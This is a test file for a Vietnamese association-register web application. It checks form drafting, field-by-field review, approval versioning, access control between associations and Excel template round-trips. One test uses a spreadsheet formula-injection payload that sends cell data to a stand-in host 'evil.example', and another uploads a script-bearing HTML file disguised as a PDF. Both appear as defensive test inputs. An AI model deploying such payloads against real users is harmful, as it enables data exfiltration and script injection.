/**
 * Biểu mẫu 1 online (issue 5 parts 1, 2, 4; ): the officer's pre-filled form, drafts,
 * declaration and validation, the staff's field-by-field review (accept one change, return another), the
 * corrected resubmission where only returned items change, approval as one new version with source
 * `submission:<id>`, notifications, IDOR between associations, and two reviewers approving at once (one 409).
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SECTIONS } from '../../src/features/register-form/definition.js';
import { sectionOfKey } from '../../src/features/register-form/sections.js';
import { MAIN_SHEET, readFormWorkbook } from '../../src/features/register-form/workbook.js';
import { buildTestApp, type TestContext } from '../helpers/app.js';
import { formFields } from '../helpers/forms.js';
import { type Agent, csrfFrom, loggedInAgent } from '../helpers/http.js';
import { editRecord } from '../helpers/register-edit.js';
import { createUser, type TestUser } from '../helpers/users.js';

const FIXTURES = path.resolve('test/fixtures/documents');

const BASE = {
  abbreviation: 'HNCT',
  kind_code: 'hoi',
  scope: 'toan_quoc',
  main_field_code: 'XHND',
  managing_ministry_code: 'BYT',
  nature_code: 'XHNDTT',
  hq_address: '12 Lê Hồng Phong',
  hq_province_code: '01',
  status: 'hoat_dong',
  data_level: 'raw',
  members_total: '9.500.000',
  'leaders.0.full_name': 'Nguyễn Văn An',
  'leaders.0.position_code': 'CT',
  'leaders.0.official_status': 'nghi_huu',
  'leaders.0.birth_year': '1950',
  'leaders.0.elected_on': '15/03/2021',
  'leaders.1.full_name': 'Lê Thị Hoa',
  'leaders.1.position_code': 'PCT',
  'leaders.1.official_status': 'khong',
};

let t: TestContext;
let uploadDir: string;
let staff: Agent;
let lead: Agent;
let officerA: Agent;
let officerB: Agent;
let officerAUser: TestUser;
let codeA: string;
let idA: number;

async function createAssociation(name: string): Promise<{ code: string; id: number }> {
  const page = await staff.get('/quan-tri/hoi/moi');
  const res = await staff
    .post('/quan-tri/hoi/moi')
    .type('form')
    .send({ _csrf: csrfFrom(page.text), ...BASE, name });
  expect(res.status, res.text.slice(0, 1500)).toBe(303);
  const code = String(res.headers.location).split('/').pop() as string;
  const row = await t.db.knex('associations').where({ code }).first('id');
  return { code, id: row.id };
}

async function startSubmission(a: Agent): Promise<number> {
  const home = await a.get('/hoi-cua-toi/');
  expect(home.status).toBe(200);
  const res = await a
    .post('/hoi-cua-toi/bieu-mau')
    .type('form')
    .send({ _csrf: csrfFrom(home.text) });
  expect(res.status).toBe(303);
  const m = /^\/hoi-cua-toi\/bieu-mau\/(\d+)$/.exec(String(res.headers.location));
  expect(m).not.toBeNull();
  return Number(m?.[1]);
}

async function officerForm(a: Agent, id: number) {
  const page = await a.get(`/hoi-cua-toi/bieu-mau/${id}`);
  expect(page.status).toBe(200);
  return { page, fields: formFields(page.text, `/hoi-cua-toi/bieu-mau/${id}`) };
}

/** A section's page of the officer's draft (Biểu mẫu 1 as a task list, issue 18 item 2). */
const sectionPath = (id: number, slug: string) => `/hoi-cua-toi/bieu-mau/${id}/muc/${slug}`;
async function sectionForm(a: Agent, id: number, slug: string) {
  const page = await a.get(sectionPath(id, slug));
  expect(page.status, page.text.slice(0, 500)).toBe(200);
  return { page, fields: formFields(page.text, sectionPath(id, slug)) };
}

/** Save the sections `changes` touches, as the officer would, one page after another; the first non-redirect answer. */
async function saveSections(a: Agent, id: number, changes: Record<string, string>) {
  const touched = SECTIONS.filter((s) => Object.keys(changes).some((k) => sectionOfKey(k) === s));
  let last: Awaited<ReturnType<Agent['post']>> | undefined;
  for (const section of touched) {
    const own = Object.fromEntries(Object.entries(changes).filter(([k]) => sectionOfKey(k) === section));
    const { fields } = await sectionForm(a, id, section.slug);
    last = await a
      .post(sectionPath(id, section.slug))
      .type('form')
      .send({ ...fields, ...own, action: 'luu' });
    if (last.status !== 303) return last;
  }
  if (!last) throw new Error('no section changed');
  return last;
}

/** The check-and-send step's "Gửi biểu mẫu". */
async function send(a: Agent, id: number, extra: Record<string, string> = { declaration: 'on' }) {
  const check = await a.get(`/hoi-cua-toi/bieu-mau/${id}/kiem-tra`);
  expect(check.status).toBe(200);
  const fields = formFields(check.text, `/hoi-cua-toi/bieu-mau/${id}`);
  return a
    .post(`/hoi-cua-toi/bieu-mau/${id}`)
    .type('form')
    .send({ ...fields, action: 'gui', ...extra });
}

async function submission(id: number) {
  return t.db.knex('submissions').where({ id }).first();
}

async function reviewPage(a: Agent, id: number) {
  const page = await a.get(`/quan-tri/bieu-mau/${id}`);
  expect(page.status).toBe(200);
  return { page, fields: formFields(page.text, `/quan-tri/bieu-mau/${id}`) };
}

beforeAll(async () => {
  uploadDir = mkdtempSync(path.join(os.tmpdir(), 'csdl-hoi-submissions-'));
  t = await buildTestApp({ UPLOAD_DIR: uploadDir });
  staff = await loggedInAgent(t, await createUser(t.db.knex, ['ngo_staff']));
  lead = await loggedInAgent(t, await createUser(t.db.knex, ['ngo_lead']));
  const a = await createAssociation('Hội Người cao tuổi Việt Nam');
  codeA = a.code;
  idA = a.id;
  const b = await createAssociation('Hội Khuyến học Việt Nam');
  officerAUser = await createUser(t.db.knex, ['association'], { associationId: a.id });
  officerA = await loggedInAgent(t, officerAUser);
  officerB = await loggedInAgent(t, await createUser(t.db.knex, ['association'], { associationId: b.id }));
});
afterAll(async () => {
  await t.db.destroy();
  rmSync(uploadDir, { recursive: true, force: true });
});

describe('Biểu mẫu 1: the officer files, staff review field by field, approval updates the record', () => {
  let id: number;
  let leaderId: number;

  it("shows the officer's home with the record and a way into the form", async () => {
    const home = await officerA.get('/hoi-cua-toi/');
    expect(home.status).toBe(200);
    expect(home.text).toContain('Hội Người cao tuổi Việt Nam');
    expect(home.text).toContain(codeA);
    expect(home.text).toContain('9.500.000');
    expect(home.text).toContain('Khai Biểu mẫu 1');
    expect(home.text).not.toContain('Hội Khuyến học Việt Nam');
  });

  it('pre-fills every group from the record, one open submission at a time', async () => {
    id = await startSubmission(officerA);
    expect(await startSubmission(officerA)).toBe(id); // the same open submission, not a second one
    const page = await officerA.get(`/hoi-cua-toi/bieu-mau/${id}`); // the task list of the sections
    const fields = {
      ...(await sectionForm(officerA, id, 'dinh-danh')).fields,
      ...(await sectionForm(officerA, id, 'hoi-vien')).fields,
      ...(await sectionForm(officerA, id, 'lanh-dao')).fields,
    };
    for (const heading of [
      'A. Thông tin định danh',
      'B. Đời sống pháp lý',
      'D. Tổ chức',
      'E. Hội viên',
      'F. Lãnh đạo hội',
      'G. Đại hội',
      'H. Hỗ trợ',
    ]) {
      expect(page.text).toContain(heading);
    }
    expect(fields.name).toBe('Hội Người cao tuổi Việt Nam');
    expect(fields.members_total).toBe('9.500.000');
    expect(fields['leaders.0.full_name']).toBe('Nguyễn Văn An');
    expect(fields['leaders.1.full_name']).toBe('Lê Thị Hoa');
    // Record management stays with the Department: not on the officer's form.
    expect(fields.status).toBeUndefined();
    expect(fields.data_level).toBeUndefined();
    expect((await officerA.get(sectionPath(id, 'quan-ly-ho-so'))).status).toBe(404);
    leaderId = Number(fields['leaders.0.id']);
    expect(leaderId).toBeGreaterThan(0);
  });

  it('saves a partial draft section by section and comes back to it; a wrong value is refused next to the field', async () => {
    const res = await saveSections(officerA, id, { members_total: '9.800.000', 'leaders.0.qualification': 'Cử nhân' });
    expect(res.status, res.text.slice(0, 2000)).toBe(303);
    const row = await submission(id);
    expect(row.status).toBe('draft');
    expect((await sectionForm(officerA, id, 'hoi-vien')).fields.members_total).toBe('9.800.000');
    expect((await sectionForm(officerA, id, 'lanh-dao')).fields['leaders.0.qualification']).toBe('Cử nhân');
    // A wrong value in the section: 400, the message next to the field, the value kept, nothing saved.
    const bad = await saveSections(officerA, id, { email: 'khong-hop-le', phone: '024 3845 0000' });
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('Thư điện tử không đúng định dạng');
    expect(bad.text).toContain('value="khong-hop-le"');
    expect(bad.text).toContain('value="024 3845 0000"');
    const body = (await submission(id)).body;
    expect((typeof body === 'string' ? JSON.parse(body) : body).phone ?? '').toBe('');
    // A required value left empty may wait in a draft (the send checks it).
    expect((await saveSections(officerA, id, { name: '' })).status).toBe(303);
  });

  it('refuses to send without the declaration or with a gap (400, errors listed by section with links)', async () => {
    const res = await send(officerA, id, {});
    expect(res.status).toBe(400);
    expect(res.text).toContain('Tên hội (tiếng Việt) là bắt buộc.');
    expect(res.text).toContain(`href="/hoi-cua-toi/bieu-mau/${id}/muc/dinh-danh#name"`);
    expect(res.text).toContain('Đánh dấu ô cam đoan');
    expect((await submission(id)).status).toBe('draft');
  });

  it('attaches a document with the register upload rules (type by content)', async () => {
    const page = await officerA.get(`/hoi-cua-toi/bieu-mau/${id}`);
    const token = decodeURIComponent(/tai-lieu\?_csrf=([^"&]+)"/.exec(page.text)?.[1] ?? '');
    const bad = await officerA
      .post(`/hoi-cua-toi/bieu-mau/${id}/tai-lieu?_csrf=${encodeURIComponent(token)}`)
      .field('classification', 'khong_mat')
      .field('document_type_code', 'khac')
      .field('title', 'Trang web')
      .attach('file', Buffer.from('<html><script>alert(1)</script></html>'), 'bien-ban.pdf');
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('Tệp không thuộc định dạng được phép');
    const types = await t.db.knex('document_types').pluck('code');
    const ok = await officerA
      .post(`/hoi-cua-toi/bieu-mau/${id}/tai-lieu?_csrf=${encodeURIComponent(token)}`)
      .field('classification', 'khong_mat')
      .field('document_type_code', types[0])
      .field('title', 'Biên bản họp Ban Chấp hành')
      .attach('file', readFileSync(path.join(FIXTURES, 'sample.pdf')), 'bien-ban.pdf');
    expect(ok.status, ok.text.slice(0, 2000)).toBe(303);
    const att = await t.db.knex('attachments').where({ association_id: idA, source: `submission:${id}` });
    expect(att).toHaveLength(1);
    expect(att[0].mime_type).toBe('application/pdf');
  });

  it('submits with the declaration; staff are notified', async () => {
    const fixed = await saveSections(officerA, id, { name: 'Hội Người cao tuổi Việt Nam', email: 'vanphong@hoinct.org.vn' });
    expect(fixed.status, fixed.text.slice(0, 2000)).toBe(303);
    const { fields } = await sectionForm(officerA, id, 'dinh-danh');
    const res = await send(officerA, id);
    expect(res.status, res.text.slice(0, 3000)).toBe(303);
    const row = await submission(id);
    expect(row.status).toBe('submitted');
    expect(row.declared_at).not.toBeNull();
    const notes = await t.db.knex('notifications').where({ kind: 'submission.received', link: `/quan-tri/bieu-mau/${id}` });
    expect(notes.length).toBe(2); // the ngo_staff and the ngo_lead
    // A submitted form is no longer editable, neither whole nor by section.
    const edit = await officerA
      .post(`/hoi-cua-toi/bieu-mau/${id}`)
      .type('form')
      .send({ ...fields, action: 'luu' });
    expect(edit.status).toBe(409);
    const bySection = await officerA
      .post(sectionPath(id, 'dinh-danh'))
      .type('form')
      .send({ ...fields, action: 'luu' });
    expect(bySection.status).toBe(409);
  });

  it('lists the submission in the queue with its age, and shows each change beside the current value', async () => {
    await t.db
      .knex('submissions')
      .where({ id })
      .update({ submitted_at: new Date(Date.now() - 3 * 86_400_000 - 60_000) });
    const queue = await staff.get('/quan-tri/bieu-mau');
    expect(queue.status).toBe(200);
    expect(queue.text).toContain('Hội Người cao tuổi Việt Nam');
    expect(queue.text).toContain(`href="/quan-tri/bieu-mau/${id}"`);
    expect(queue.text).toMatch(/<td class="text-end">3<\/td>/); // waiting for 3 days
    const { page } = await reviewPage(staff, id);
    expect(page.text).toContain('Tổng số hội viên');
    expect(page.text).toMatch(/9\.500\.000<\/td><td class="diff-after">9\.800\.000/);
    expect(page.text).toContain('Lãnh đạo hội: sửa — Nguyễn Văn An');
    expect(page.text).toMatch(/Trình độ chuyên môn<\/th><td class="diff-before">\(trống\)<\/td><td class="diff-after">Cử nhân/);
    expect(page.text).toContain('vanphong@hoinct.org.vn');
    expect(page.text).toContain('Biên bản họp Ban Chấp hành');
  });

  it('accepts one change and returns another with a comment; the officer is notified', async () => {
    const { fields } = await reviewPage(staff, id);
    // A return without a comment on the returned item is refused.
    const bad = await staff
      .post(`/quan-tri/bieu-mau/${id}`)
      .type('form')
      .send({
        ...fields,
        'decision.members_total': 'accepted',
        'decision.email': 'accepted',
        [`decision.leaders.${leaderId}`]: 'returned',
        action: 'return',
      });
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('ghi lý do trả lại');
    const res = await staff
      .post(`/quan-tri/bieu-mau/${id}`)
      .type('form')
      .send({
        ...fields,
        'decision.members_total': 'accepted',
        'decision.email': 'accepted',
        [`decision.leaders.${leaderId}`]: 'returned',
        [`comment.leaders.${leaderId}`]: 'Ghi rõ chuyên ngành đào tạo.',
        action: 'return',
      });
    expect(res.status, res.text.slice(0, 3000)).toBe(303);
    const row = await submission(id);
    expect(row.status).toBe('returned');
    const record = await t.db.knex('associations').where({ code: codeA }).first();
    expect(record.members_total).toBe(9_500_000); // nothing applied on a return
    const note = await t.db.knex('notifications').where({ user_id: officerAUser.id, kind: 'submission.returned' }).first();
    expect(note?.link).toBe(`/hoi-cua-toi/bieu-mau/${id}`);
    const home = await officerA.get('/hoi-cua-toi/');
    expect(home.text).toContain('Bị trả lại để sửa');
    expect(home.text).toContain('Ghi rõ chuyên ngành đào tạo.');
  });

  it('lets the officer change only the returned item, then resubmit', async () => {
    const { page, fields } = await officerForm(officerA, id);
    expect(page.text).toContain('Ghi rõ chuyên ngành đào tạo.');
    expect(fields['leaders.0.qualification']).toBe('Cử nhân');
    expect(fields.members_total).toBeUndefined(); // accepted items are locked: not on the form
    const res = await officerA
      .post(`/hoi-cua-toi/bieu-mau/${id}`)
      .type('form')
      .send({
        ...fields,
        'leaders.0.qualification': 'Cử nhân Luật',
        members_total: '1', // forged: an accepted item cannot change
        'leaders.1.full_name': 'Người khác', // forged: an item never returned cannot change
        action: 'gui',
        declaration: 'on',
      });
    expect(res.status, res.text.slice(0, 3000)).toBe(303);
    const row = await submission(id);
    expect(row.status).toBe('resubmitted');
    expect(row.round).toBe(2);
    const body = typeof row.body === 'string' ? JSON.parse(row.body) : row.body;
    expect(body.members_total).toBe('9.800.000');
    expect(body['leaders.0.qualification']).toBe('Cử nhân Luật');
    expect(body['leaders.1.full_name']).toBe('Lê Thị Hoa');
  });

  it('approves: the accepted changes become one new version with source submission:<id>, data level basic', async () => {
    const { page, fields } = await reviewPage(lead, id);
    expect(page.text).toContain('Đã chấp nhận ở lần xét trước');
    expect(fields['decision.members_total']).toBe('accepted'); // the earlier acceptance stands
    const before = await t.db.knex('associations').where({ code: codeA }).first();
    const res = await lead
      .post(`/quan-tri/bieu-mau/${id}`)
      .type('form')
      .send({ ...fields, [`decision.leaders.${leaderId}`]: 'accepted', action: 'approve' });
    expect(res.status, res.text.slice(0, 3000)).toBe(303);
    const after = await t.db.knex('associations').where({ code: codeA }).first();
    expect(after.version).toBe(before.version + 1);
    expect(after.members_total).toBe(9_800_000);
    expect(after.email).toBe('vanphong@hoinct.org.vn');
    expect(after.data_level).toBe('basic');
    const leaders = await t.db.knex('leaders').where({ association_id: idA }).orderBy('id');
    expect(leaders.map((l) => [l.full_name, l.qualification])).toEqual([
      ['Nguyễn Văn An', 'Cử nhân Luật'],
      ['Lê Thị Hoa', null],
    ]);
    const row = await submission(id);
    expect(row.status).toBe('approved');
    expect(row.applied_version).toBe(after.version);
    const version = await t.db.knex('association_versions').where({ association_id: idA, version: after.version }).first();
    expect(version.source).toBe(`submission:${id}`);
    const history = await staff.get(`/quan-tri/hoi/${codeA}/lich-su`);
    expect(history.text).toContain(`Hồ sơ hội gửi (số ${id})`);
    expect(await t.db.knex('notifications').where({ user_id: officerAUser.id, kind: 'submission.approved' }).first()).toBeDefined();
    expect(
      await t.db
        .knex('audit_events')
        .where({ action: 'submission.approve', target_id: String(id) })
        .first(),
    ).toBeDefined();
    // Decided: no longer in the waiting queue.
    const queue = await staff.get('/quan-tri/bieu-mau');
    expect(queue.text).not.toContain(`href="/quan-tri/bieu-mau/${id}"`);
  });
});

describe('access: an officer reaches only their own association, and never the review', () => {
  it('404 for another association’s submission (open, save, attach); 403 on the review routes', async () => {
    const id = await startSubmission(officerA);
    const { page, fields } = await sectionForm(officerA, id, 'dinh-danh');
    const token = csrfFrom(page.text);
    const homeB = await officerB.get('/hoi-cua-toi/');
    const tokenB = csrfFrom(homeB.text);
    expect((await officerB.get(`/hoi-cua-toi/bieu-mau/${id}`)).status).toBe(404);
    expect((await officerB.get(sectionPath(id, 'dinh-danh'))).status).toBe(404);
    expect((await officerB.get(`/hoi-cua-toi/bieu-mau/${id}/kiem-tra`)).status).toBe(404);
    const sectionSave = await officerB
      .post(sectionPath(id, 'dinh-danh'))
      .type('form')
      .send({ ...fields, _csrf: tokenB, name: 'Bị chiếm', action: 'luu' });
    expect(sectionSave.status).toBe(404);
    const save = await officerB
      .post(`/hoi-cua-toi/bieu-mau/${id}`)
      .type('form')
      .send({ ...fields, _csrf: tokenB, action: 'gui', declaration: 'on', name: 'Bị chiếm' });
    expect(save.status).toBe(404);
    const attach = await officerB
      .post(`/hoi-cua-toi/bieu-mau/${id}/tai-lieu?_csrf=${encodeURIComponent(tokenB)}`)
      .field('classification', 'khong_mat')
      .attach('file', readFileSync(path.join(FIXTURES, 'sample.pdf')), 'x.pdf');
    expect(attach.status).toBe(404);
    expect((await submission(id)).status).toBe('draft');
    expect(homeB.text).not.toContain('Hội Người cao tuổi Việt Nam');
    // Submit it, then try the review routes as the officer who filed it.
    const sent = await send(officerA, id);
    expect(sent.status).toBe(303);
    expect((await officerA.get('/quan-tri/bieu-mau')).status).toBe(403);
    expect((await officerA.get(`/quan-tri/bieu-mau/${id}`)).status).toBe(403);
    const approve = await officerA
      .post(`/quan-tri/bieu-mau/${id}`)
      .type('form')
      .send({ _csrf: token, version: '1', record_version: '1', action: 'approve' });
    expect(approve.status).toBe(403);
    expect((await submission(id)).status).toBe('submitted');
  });
});

describe('two reviewers approving at once', () => {
  it('one succeeds, the other gets 409, the record gets exactly one new version', async () => {
    const open = await t.db.knex('submissions').where({ association_id: idA, status: 'submitted' }).first();
    // Change something so the approval has an item to accept.
    const body = typeof open.body === 'string' ? JSON.parse(open.body) : open.body;
    await t.db
      .knex('submissions')
      .where({ id: open.id })
      .update({ body: JSON.stringify({ ...body, website: 'hoinguoicaotuoi.vn' }) });
    const a = await reviewPage(staff, open.id);
    const b = await reviewPage(lead, open.id);
    expect(a.page.text).toContain('https://hoinguoicaotuoi.vn');
    const before = await t.db.knex('associations').where({ id: idA }).first();
    const results = await Promise.all([
      staff
        .post(`/quan-tri/bieu-mau/${open.id}`)
        .type('form')
        .send({ ...a.fields, 'decision.website': 'accepted', action: 'approve' }),
      lead
        .post(`/quan-tri/bieu-mau/${open.id}`)
        .type('form')
        .send({ ...b.fields, 'decision.website': 'accepted', action: 'approve' }),
    ]);
    expect(results.map((r) => r.status).sort()).toEqual([303, 409]);
    const after = await t.db.knex('associations').where({ id: idA }).first();
    expect(after.version).toBe(before.version + 1);
    expect(after.website).toBe('https://hoinguoicaotuoi.vn');
    const versions = await t.db.knex('association_versions').where({ association_id: idA, source: `submission:${open.id}` });
    expect(versions).toHaveLength(1);
  });

  it('a rejection needs a reason and notifies the officer', async () => {
    const id = await startSubmission(officerA);
    expect((await saveSections(officerA, id, { phone: '024 3845 1234' })).status).toBe(303);
    expect((await send(officerA, id)).status).toBe(303);
    const review = await reviewPage(staff, id);
    const noReason = await staff
      .post(`/quan-tri/bieu-mau/${id}`)
      .type('form')
      .send({ ...review.fields, action: 'reject' });
    expect(noReason.status).toBe(400);
    expect(noReason.text).toContain('Ghi lý do từ chối');
    const res = await staff
      .post(`/quan-tri/bieu-mau/${id}`)
      .type('form')
      .send({ ...review.fields, action: 'reject', review_comment: 'Số điện thoại không phải của hội.' });
    expect(res.status).toBe(303);
    expect((await submission(id)).status).toBe('rejected');
    const record = await t.db.knex('associations').where({ id: idA }).first();
    expect(record.phone).toBeNull();
    expect(await t.db.knex('notifications').where({ user_id: officerAUser.id, kind: 'submission.rejected' }).first()).toBeDefined();
  });
});

describe('Excel: the ministry template of Biểu mẫu 1, filled offline and uploaded as the draft (issue 5 §1)', () => {
  async function download(a: Agent): Promise<Buffer> {
    const res = await a
      .get('/hoi-cua-toi/bieu-mau/mau.xlsx')
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    return res.body as Buffer;
  }

  async function setCell(buffer: Buffer, key: string, value: string | number): Promise<Buffer> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet(MAIN_SHEET);
    let found = false;
    ws?.eachRow((row) => {
      if (String(row.getCell(4).value ?? '') === key) {
        row.getCell(2).value = value;
        found = true;
      }
    });
    expect(found, key).toBe(true);
    return Buffer.from(await wb.xlsx.writeBuffer());
  }

  async function upload(a: Agent, file: Buffer, name = 'bieu-mau-1.xlsx') {
    const home = await a.get('/hoi-cua-toi/');
    const token = decodeURIComponent(/tai-len\?_csrf=([^"&]+)"/.exec(home.text)?.[1] ?? '');
    return a.post(`/hoi-cua-toi/bieu-mau/tai-len?_csrf=${encodeURIComponent(token)}`).attach('file', file, name);
  }

  it('downloads the template pre-filled from the record; an uploaded filled copy becomes the draft', async () => {
    const template = await download(officerA);
    const read = await readFormWorkbook(template);
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.values.name).toBe('Hội Người cao tuổi Việt Nam');
    expect(read.values.code).toBe(codeA);
    expect(read.values['leaders.0.full_name']).toBe('Nguyễn Văn An');

    const filled = await setCell(template, 'members_total', 10_000_000);
    const res = await upload(officerA, filled);
    expect(res.status, res.text.slice(0, 2000)).toBe(303);
    const id = Number(/\/hoi-cua-toi\/bieu-mau\/(\d+)$/.exec(String(res.headers.location))?.[1]);
    const row = await submission(id);
    expect(row.status).toBe('draft');
    expect(row.origin).toBe('excel');
    // Reviewed and submitted as usual.
    expect((await sectionForm(officerA, id, 'hoi-vien')).fields.members_total).toBe('10.000.000');
    expect((await sectionForm(officerA, id, 'lanh-dao')).fields['leaders.0.full_name']).toBe('Nguyễn Văn An');
    const check = await officerA.get(`/hoi-cua-toi/bieu-mau/${id}/kiem-tra`);
    expect(check.text).toMatch(/9\.800\.000<\/td><td class="diff-after">10\.000\.000/);
    const sent = await send(officerA, id);
    expect(sent.status, sent.text.slice(0, 2000)).toBe(303);
    expect((await submission(id)).status).toBe('submitted');
  });

  it('writes a formula-like name and purpose as text (check 20); uploaded back, the draft holds them unchanged', async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Hội Bấm Vào")';
    const purpose = '+SUM(1,2) tôn chỉ';
    const page = await staff.get('/quan-tri/hoi/moi');
    const created = await staff
      .post('/quan-tri/hoi/moi')
      .type('form')
      .send({ _csrf: csrfFrom(page.text), ...BASE, name, purpose });
    expect(created.status, created.text.slice(0, 1500)).toBe(303);
    const code = String(created.headers.location).split('/').pop() as string;
    const row = await t.db.knex('associations').where({ code }).first('id');
    const officer = await loggedInAgent(t, await createUser(t.db.knex, ['association'], { associationId: row.id }));
    const template = await download(officer);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(template as unknown as ExcelJS.Buffer);
    const cells = new Map<string, ExcelJS.CellValue>();
    wb.getWorksheet(MAIN_SHEET)?.eachRow((r) => {
      cells.set(String(r.getCell(4).value ?? ''), r.getCell(2).value);
    });
    expect(cells.get('name')).toBe(`'${name}`); // a string cell, not a formula
    expect(cells.get('purpose')).toBe(`'${purpose}`);
    const read = await readFormWorkbook(template);
    expect(read.ok && read.values.name).toBe(name);
    expect(read.ok && read.values.purpose).toBe(purpose);

    const res = await upload(officer, template);
    expect(res.status, res.text.slice(0, 2000)).toBe(303);
    const id = Number(/\/hoi-cua-toi\/bieu-mau\/(\d+)$/.exec(String(res.headers.location))?.[1]);
    expect((await sectionForm(officer, id, 'dinh-danh')).fields.name).toBe(name);
    expect((await sectionForm(officer, id, 'ton-chi-linh-vuc')).fields.purpose).toBe(purpose);
  });

  it("refuses a file that is not a workbook, and another association's workbook (400, nothing stored)", async () => {
    const before = await t.db.knex('submissions').count<{ n: number }[]>('* as n').first();
    const pdf = await upload(officerB, readFileSync(path.join(FIXTURES, 'sample.pdf')), 'x.xlsx');
    expect(pdf.status).toBe(400);
    expect(pdf.text).toContain('không phải là tệp Excel');
    const other = await upload(officerB, await download(officerA));
    expect(other.status).toBe(400);
    expect(other.text).toContain(`không phải của hội bạn`);
    const after = await t.db.knex('submissions').count<{ n: number }[]>('* as n').first();
    expect(Number(after?.n)).toBe(Number(before?.n));
  });
});

describe('staff edits made while a draft was open are neither shown as the association’s nor undone', () => {
  it('compares with the version the form was filled from and keeps the newer staff changes on approval', async () => {
    const id = await startSubmission(officerB);
    const { fields } = await sectionForm(officerB, id, 'dinh-danh');
    const b = await t.db.knex('associations').where({ name: 'Hội Khuyến học Việt Nam' }).first();
    // Meanwhile staff change the phone and add a leader through the register.
    const res = await editRecord(staff, b.code, {
      phone: '024 1111 2222',
      'leaders.2.full_name': 'Trần Văn Mới',
      'leaders.2.position_code': 'TTK',
      'leaders.2.official_status': 'khong',
    });
    expect(res.status, res.text.slice(0, 1500)).toBe(303);
    // The officer, on the page opened before, changes the website only, then sends.
    const saved = await officerB
      .post(sectionPath(id, 'dinh-danh'))
      .type('form')
      .send({ ...fields, website: 'khuyenhoc.vn', action: 'luu' });
    expect(saved.status, saved.text.slice(0, 1500)).toBe(303);
    const sent = await send(officerB, id);
    expect(sent.status, sent.text.slice(0, 1500)).toBe(303);
    const { page, fields: review } = await reviewPage(staff, id);
    expect(page.text).toContain('https://khuyenhoc.vn');
    expect(page.text).toContain('Hồ sơ hội đã được lưu thêm sau khi hội lập biểu mẫu');
    expect(page.text).not.toContain('Trần Văn Mới');
    expect(page.text).not.toContain('024 1111 2222');
    expect(page.text).toContain('Các thay đổi hội đề nghị (1)');
    const approve = await staff
      .post(`/quan-tri/bieu-mau/${id}`)
      .type('form')
      .send({ ...review, 'decision.website': 'accepted', action: 'approve' });
    expect(approve.status, approve.text.slice(0, 1500)).toBe(303);
    const after = await t.db.knex('associations').where({ id: b.id }).first();
    expect(after.website).toBe('https://khuyenhoc.vn');
    expect(after.phone).toBe('024 1111 2222');
    const leaders = await t.db.knex('leaders').where({ association_id: b.id }).orderBy('id').pluck('full_name');
    expect(leaders).toContain('Trần Văn Mới');
  });
});
